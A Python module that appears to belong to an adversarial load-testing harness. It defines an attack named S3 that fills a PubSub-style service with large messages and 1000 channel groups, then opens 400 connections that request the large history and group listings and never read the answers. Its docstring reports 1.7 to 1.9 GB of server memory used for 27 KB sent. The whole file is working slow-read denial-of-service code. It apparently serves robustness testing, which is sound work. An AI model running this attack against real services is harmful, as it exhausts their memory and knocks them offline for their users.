"""S3: answers that nobody reads."""

from hostile.attack import Attack
from hostile.crowd import Crowd

CONNECTIONS = 400


class Unread(Attack):
    """400 connections, 27 KB sent, ask for history and read nothing: 1.7 to 1.9 GB."""

    name, title = "S3", "400 connections ask for 3 MB each and read nothing"
    stranger = True

    def prepare(self, target):
        with target.rest() as rest:
            for number in range(100):
                rest.ok("/publish/{pub}/{sub}/0/large/0", method="POST",
                        body=f"{number:03}" + "x" * 30_000)
            for number in range(1000):
                rest.ok(f"/v1/channel-registration/sub-key/{{sub}}/channel-group/"
                        f"{number:04}{'g' * 80}", {"add": "room"})

    def strike(self, target, stop):
        history = target.get(f"/v3/history/sub-key/{target.sub}/channel/large?max=100&uuid=m")
        groups = target.get(f"/v1/channel-registration/sub-key/{target.sub}/channel-group?uuid=m")
        crowd = Crowd(
            CONNECTIONS, lambda _: target.socket(receive_buffer=4096),
            lambda peer: groups if peer.number % 4 == 3 else history, depth=8, reads=False)
        crowd.run(stop)
        return {"bytes sent": crowd.sent_bytes} | crowd.counts
